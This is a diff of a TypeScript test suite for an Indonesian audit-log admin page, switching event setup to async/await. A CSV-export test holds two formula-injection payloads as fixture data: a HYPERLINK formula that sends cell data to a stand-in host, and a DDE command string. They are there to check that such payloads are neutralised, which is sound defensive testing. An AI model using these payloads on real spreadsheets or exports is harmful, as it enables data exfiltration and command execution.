@@ -9,8 +9,8 @@ import { createTestApp, type TestApp } from '../helpers/test-app.js';
 
 describe('the audit log page', () => {
   let t: TestApp;
-  beforeEach(() => {
-    t = createTestApp();
+  beforeEach(async () => {
+    t = await createTestApp();
   });
   afterEach(() => t.close());
 
@@ -26,8 +26,8 @@ describe('the audit log page', () => {
     target?: { type: string; id: number };
     note?: string;
     details?: Record<string, unknown>;
-  }) {
-    recordEvent(t.services.audit, {
+  }): Promise<void> {
+    return recordEvent(t.services.audit, {
       actor: {
         userId: options.userId ?? null,
         ip: options.ip === undefined ? '10.1.2.3' : options.ip,
@@ -47,9 +47,9 @@ describe('the audit log page', () => {
 
   it('lists events newest first, in WIB, with the actor (or "Sistem"), label, target, IP and details', async () => {
     const { admin, agent } = await asAdmin();
-    event({ at: '2024-01-10T03:15:00.000Z', note: 'pertama', userId: admin.id, ip: '192.0.2.10' });
-    event({ at: '2024-01-12T03:15:00.000Z', note: 'ketiga', action: 'login.failed', userId: null });
-    event({
+    await event({ at: '2024-01-10T03:15:00.000Z', note: 'pertama', userId: admin.id, ip: '192.0.2.10' });
+    await event({ at: '2024-01-12T03:15:00.000Z', note: 'ketiga', action: 'login.failed', userId: null });
+    await event({
       at: '2024-01-11T03:15:00.000Z',
       note: 'kedua',
       action: 'pact.opened',
@@ -76,7 +76,7 @@ describe('the audit log page', () => {
 
   it('summarises structured details on one line', async () => {
     const { agent } = await asAdmin();
-    event({
+    await event({
       at: '2024-01-10T03:15:00.000Z',
       details: { reason: 'wrong_password', units: [3, 4], lockedUntil: null, extra: { a: 1 } },
     });
@@ -93,9 +93,9 @@ describe('the audit log page', () => {
         nip: '198609262015051001',
       });
       const sri = await t.make.user({ fullName: 'Sri Wahyuni', email: 'sri@uji.test' });
-      event({ at: '2024-02-01T01:00:00.000Z', userId: budi.id, note: 'oleh-budi' });
-      event({ at: '2024-02-02T01:00:00.000Z', userId: sri.id, note: 'oleh-sri' });
-      event({ at: '2024-02-03T01:00:00.000Z', userId: null, note: 'oleh-sistem' });
+      await event({ at: '2024-02-01T01:00:00.000Z', userId: budi.id, note: 'oleh-budi' });
+      await event({ at: '2024-02-02T01:00:00.000Z', userId: sri.id, note: 'oleh-sri' });
+      await event({ at: '2024-02-03T01:00:00.000Z', userId: null, note: 'oleh-sistem' });
       const range = 'dari=2024-02-01&sampai=2024-02-28';
 
       const byId = await agent.get(`/admin/audit?${range}&pelaku=${budi.id}`);
@@ -126,8 +126,8 @@ describe('the audit log page', () => {
       const { agent } = await asAdmin();
       const a = await t.make.user({ fullName: 'Rina Kusuma' });
       const b = await t.make.user({ fullName: 'Rina Lestari' });
-      event({ at: '2024-02-01T01:00:00.000Z', userId: a.id, note: 'oleh-kusuma' });
-      event({ at: '2024-02-02T01:00:00.000Z', userId: b.id, note: 'oleh-lestari' });
+      await event({ at: '2024-02-01T01:00:00.000Z', userId: a.id, note: 'oleh-kusuma' });
+      await event({ at: '2024-02-02T01:00:00.000Z', userId: b.id, note: 'oleh-lestari' });
       const both = await agent.get('/admin/audit?dari=2024-02-01&cari_pelaku=Rina');
       expect(notesOn(both.text)).toEqual(['oleh-lestari', 'oleh-kusuma']);
       expect(both.text).toContain('2 pengguna cocok');
@@ -144,25 +144,25 @@ describe('the audit log page', () => {
 
     it('narrows by action and by target', async () => {
       const { agent } = await asAdmin();
-      event({
+      await event({
         at: '2024-03-01T01:00:00.000Z',
         action: 'pact.created',
         target: { type: 'pact', id: 1 },
         note: 'buat-1',
       });
-      event({
+      await event({
         at: '2024-03-02T01:00:00.000Z',
         action: 'pact.opened',
         target: { type: 'pact', id: 1 },
         note: 'buka-1',
       });
-      event({
+      await event({
         at: '2024-03-03T01:00:00.000Z',
         action: 'pact.created',
         target: { type: 'pact', id: 2 },
         note: 'buat-2',
       });
-      event({
+      await event({
         at: '2024-03-04T01:00:00.000Z',
         action: 'logout',
         target: { type: 'user', id: 1 },
@@ -194,10 +194,10 @@ describe('the audit log page', () => {
 
     it('reads the date range as whole days in WIB (UTC+7)', async () => {
       const { agent } = await asAdmin();
-      event({ at: '2024-01-15T16:59:59.999Z', note: 'tgl15-akhir' }); // 15 Jan 23:59:59 WIB
-      event({ at: '2024-01-15T17:00:00.000Z', note: 'tgl16-awal' }); // 16 Jan 00:00 WIB
-      event({ at: '2024-01-16T16:59:59.999Z', note: 'tgl16-akhir' }); // 16 Jan 23:59:59 WIB
-      event({ at: '2024-01-16T17:00:00.000Z', note: 'tgl17-awal' }); // 17 Jan 00:00 WIB
+      await event({ at: '2024-01-15T16:59:59.999Z', note: 'tgl15-akhir' }); // 15 Jan 23:59:59 WIB
+      await event({ at: '2024-01-15T17:00:00.000Z', note: 'tgl16-awal' }); // 16 Jan 00:00 WIB
+      await event({ at: '2024-01-16T16:59:59.999Z', note: 'tgl16-akhir' }); // 16 Jan 23:59:59 WIB
+      await event({ at: '2024-01-16T17:00:00.000Z', note: 'tgl17-awal' }); // 17 Jan 00:00 WIB
 
       const oneDay = await agent.get('/admin/audit?dari=2024-01-16&sampai=2024-01-16');
       expect(notesOn(oneDay.text)).toEqual(['tgl16-akhir', 'tgl16-awal']);
@@ -233,7 +233,7 @@ describe('the audit log page', () => {
       'refuses %s with 400, a message beside the field and the input kept',
       async (query, field, message, kept) => {
         const { agent } = await asAdmin();
-        event({ at: '2024-01-15T03:00:00.000Z', note: 'tidak-tampil' });
+        await event({ at: '2024-01-15T03:00:00.000Z', note: 'tidak-tampil' });
         const res = await agent.get(`/admin/audit?${query}`);
         expect(res.status).toBe(400);
         expect(res.text).toContain(message);
@@ -256,9 +256,9 @@ describe('the audit log page', () => {
   it('pages 50 events at a time, newest first, keeping the filter in the links', async () => {
     const { agent } = await asAdmin();
     const start = Date.parse('2024-05-01T00:00:00.000Z');
-    inTransaction(t.db, () => {
+    await inTransaction(t.db, async () => {
       for (let i = 0; i < 120; i += 1)
-        event({ at: new Date(start + i * 60_000).toISOString(), note: `e${i}` });
+        await event({ at: new Date(start + i * 60_000).toISOString(), note: `e${i}` });
     });
     const range = 'dari=2024-05-01&sampai=2024-05-31';
     const first = await agent.get(`/admin/audit?${range}`);
@@ -295,21 +295,21 @@ describe('the audit log page', () => {
 
     it('sends the filtered events as an attachment: UTF-8 with a BOM, a header, one row per event', async () => {
       const { admin, agent } = await asAdmin();
-      event({
+      await event({
         at: '2024-01-15T03:15:00.000Z',
         userId: admin.id,
         action: 'pact.opened',
         target: { type: 'pact', id: 3 },
         details: { title: 'Pakta; "Netralitas" 2024' },
       });
-      event({
+      await event({
         at: '2024-01-16T03:15:00.000Z',
         userId: null,
         ip: null,
         action: 'login.failed',
         note: 'sistem',
       });
-      event({ at: '2023-12-01T03:15:00.000Z', note: 'di-luar-rentang' });
+      await event({ at: '2023-12-01T03:15:00.000Z', note: 'di-luar-rentang' });
 
       const { res, text } = await csvOf(agent, 'format=csv&dari=2024-01-01&sampai=2024-01-31');
       expect(res.status).toBe(200);
@@ -331,7 +331,7 @@ describe('the audit log page', () => {
     it('neutralises cells that a spreadsheet would run as a formula', async () => {
       const { agent } = await asAdmin();
       const attacker = await t.make.user({ fullName: '=HYPERLINK("http://jahat.test/?d="&A1,"Klik")' });
-      event({
+      await event({
         at: '2024-01-15T03:15:00.000Z',
         userId: attacker.id,
         userAgent: '@SUM(1+1)*cmd|" /C calc"!A0',
@@ -347,10 +347,10 @@ describe('the audit log page', () => {
     it('exports every event across its chunks, even events sharing a time, once each', async () => {
       const { agent } = await asAdmin();
       const at = Date.parse('2024-06-01T00:00:00.000Z');
-      inTransaction(t.db, () => {
+      await inTransaction(t.db, async () => {
         // 4 500 events over 900 distinct times: the export's chunks (2 000) end in the middle of a shared time.
         for (let i = 0; i < 4500; i += 1) {
-          event({
+          await event({
             at: new Date(at + Math.floor(i / 5) * 1000).toISOString(),
             action: 'logout',
             note: `n${i}`,
